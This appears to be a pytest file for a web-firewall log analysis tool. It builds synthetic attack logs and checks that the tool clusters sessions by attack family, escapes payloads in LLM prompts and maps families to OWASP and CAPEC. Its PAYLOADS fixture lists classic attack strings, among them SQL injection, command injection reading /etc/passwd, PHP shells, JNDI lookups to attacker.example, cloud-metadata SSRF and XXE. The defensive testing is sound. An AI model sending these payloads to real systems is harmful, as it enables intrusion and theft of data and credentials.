"""Per-family payload evidence: a cluster is named by the family most of its sessions carry, "mixed" when none
dominates; real ingest, sessionizing and clustering of a log whose campaigns each attack with one family."""

import json
import threading
from collections import Counter
from http.server import ThreadingHTTPServer
from urllib.parse import quote

import pytest

from waflens.clustering.run import ClusterOptions, cluster_sessions
from waflens.data.sessionize import update_derived
from waflens.labeling.evidence import build_evidence
from waflens.labeling.offline import OfflineSummarizer
from waflens.labeling.signatures import request_family
from waflens.labeling.taxonomy import ALIASES, FAMILIES, canonical_family
from tests.data.helpers import at, combined_line, fresh_db, ingest, write_log
from tests.labeling.test_openai_provider import FakeOpenAI

PAYLOADS = {
    "sqli": ["1' UNION SELECT username,password FROM users--", "1 AND SLEEP(5)", "' OR 1=1--", "1' ORDER BY 3--"],
    "xss": ["<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "<svg/onload=alert(1)>"],
    "path_traversal": ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/shadow"],
    "rfi": ["http://evil.example/shell.txt?", "https://attacker.example/c99.php?", "ftp://x.example/r57.txt%00"],
    "cmd_injection": [";cat /etc/passwd", "| id", "`whoami`", "$(uname -a)", "; ping -c 3 localhost"],
    "php_injection": ["<?php system($_GET['c']); ?>", "php://input", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
                      "O:8:\"Exploit\":1:{s:3:\"cmd\";s:2:\"id\";}"],
    "java_injection": ["${jndi:ldap://attacker.example/a}", "${${lower:j}ndi:rmi://x.example/o}",
                       "%{(#_memberaccess['allowStaticMethodAccess']=true)}", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ"],
    "ssrf": ["http://169.254.169.254/latest/meta-data/", "gopher://localhost:6379/_INFO", "http://localhost:8080/admin",
             "http://metadata.google.internal/computeMetadata/v1/"],
    "ssti": ["{{7*7}}", "${7*7}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}"],
    "xxe": ["<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
            "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://x.example/e.dtd\"> %p;]>"],
    "nosql_injection": ["{\"$gt\": \"\"}", "[$ne]=1", "'; return true; var x='", "{\"$where\": \"sleep(100)\"}"],
    "ldap_injection": ["*)(uid=*))(|(uid=*", "admin)(&(password=*)", "*)(|(objectclass=*)"],
    "crlf_injection": ["%0d%0aSet-Cookie:%20evil=1", "%0d%0aLocation:%20http://evil.example", "foo%0d%0a%0d%0a<html>"],
}
# each campaign behaves its own way (agent, endpoint, pace, status), so clustering on behaviour separates them
DAY = 86_400
ENDPOINTS = ["/search", "/item", "/view", "/download", "/api/lookup", "/page", "/render", "/fetch", "/profile",
             "/import", "/login", "/directory", "/redirect", "/scan"]


def _campaign_lines(name: str, index: int, first_client: int, clients: int, payload_of) -> list[str]:
    lines = []
    for c in range(clients):
        client = first_client + c
        for k in range(6):
            payload = payload_of(c, k)
            parameter = "q" if not payload.startswith(("%", "foo")) else "next"
            value = payload if "%" in payload[:3] or payload.startswith("foo") else quote(payload, safe="")
            request = f"GET {ENDPOINTS[index]}?{parameter}={value} HTTP/1.1"
            lines.append(combined_line(f"198.51.{index}.{client % 250 + 1}", at(DAY * index + c * 900 + k * 3),
                                       request, status=(200, 403, 500, 404)[index % 4], size=100 + 37 * index,
                                       agent=f"campaign-{name}/1.{index}"))
    return lines


@pytest.fixture(scope="module")
def families_db(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("families")
    lines, truth = [], {}
    for index, (family, payloads) in enumerate(PAYLOADS.items()):
        lines += _campaign_lines(family, index, index * 20, 10, lambda c, k, p=payloads: p[(c + k) % len(p)])
        truth[f"campaign-{family}/"] = family
    # one behaviour, several families: each client attacks with another family
    spread = list(PAYLOADS)
    lines += _campaign_lines("spread", 13, 400, 8, lambda c, k: PAYLOADS[spread[c]][k % len(PAYLOADS[spread[c]])])
    truth["campaign-spread/"] = "mixed"
    con = fresh_db(tmp)
    ingest(con, write_log(tmp / "families.log", lines))
    update_derived(con)
    expected = {}      # (run, cluster) -> (family, purity): one run per campaign's day, so each is its own cluster
    for index in range(len(ENDPOINTS)):
        run = cluster_sessions(con, ClusterOptions(since=at(DAY * index).replace(tzinfo=None),
                                                   until=at(DAY * (index + 1)).replace(tzinfo=None),
                                                   min_cluster_size=4, select="all"))
        for cluster, agents in con.execute(
                """SELECT c.cluster_id, list(r.user_agent) FROM session_clusters c JOIN requests r USING (session_id)
                   WHERE c.cluster_run_id = $r AND c.cluster_id >= 0 GROUP BY 1""",
                {"r": run.cluster_run_id}).fetchall():
            campaign, n = Counter(a.rsplit("1.", 1)[0] for a in agents).most_common(1)[0]
            expected[run.cluster_run_id, cluster] = (truth[campaign], n / len(agents))
    return con, expected


def test_family_evidence_counts_sessions_and_quotes_examples(families_db):
    con, expected = families_db
    pack = build_evidence(con, *next(c for c, (family, _) in expected.items() if family == "sqli"))
    top = pack["family_evidence"]["families"][0]
    n = pack["cluster"]["sessions"]
    assert top["family"] == "sqli" and top["sessions"] == pack["family_evidence"]["sessions_with_payloads"] == n
    examples = [pack["requests"][i] for i in top["example_requests"]]
    assert examples and all(request_family(e.split(" ", 1)[1].split(" -> ")[0]) == "sqli" for e in examples)
    summary = OfflineSummarizer().summarize(pack)
    assert f"{n} of {n} sampled sessions carry sql injection payloads" in summary.summary
    assert summary.capec == [66] and summary.owasp == "A03:2021 Injection"


def test_the_llm_receives_the_family_counts(families_db):
    con, expected = families_db
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), FakeOpenAI)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    FakeOpenAI.mode, FakeOpenAI.requests = "good", []
    try:
        from waflens.labeling.openai_provider import OpenAISummarizer

        xxe = next(c for c, (family, _) in expected.items() if family == "xxe")
        OpenAISummarizer(model="test-model", base_url=f"http://127.0.0.1:{httpd.server_address[1]}/v1",
                         api_key="sk-test").summarize(build_evidence(con, *xxe))
    finally:
        httpd.shutdown()
    messages = FakeOpenAI.requests[0]["messages"]
    prompt = messages[-1]["content"]
    data = json.loads(prompt.split("<evidence>\n", 1)[1].rsplit("\n</evidence>", 1)[0])
    assert data["family_evidence"]["families"][0] == {**data["family_evidence"]["families"][0], "family": "xxe",
                                                      "sessions": data["cluster"]["sessions"]}
    assert "<!DOCTYPE" not in prompt and "\\u003c!DOCTYPE" in prompt                 # examples escaped, tags not forgeable
    assert "family_evidence" in messages[0]["content"] and "mixed" in messages[0]["content"]


def test_taxonomy_maps_every_family_and_alias():
    for family in FAMILIES.values():
        if family.name not in ("benign", "other", "mixed", "scraping"):
            assert family.owasp and family.capec, family
        if family.crs:
            assert family.crs.startswith("REQUEST-9") and family.crs.split("-")[1].isdigit()
    assert all(canonical_family(alias) == family and family in FAMILIES for alias, family in ALIASES.items())
    assert canonical_family("LFI") == "path_traversal" and canonical_family("nonsense") is None
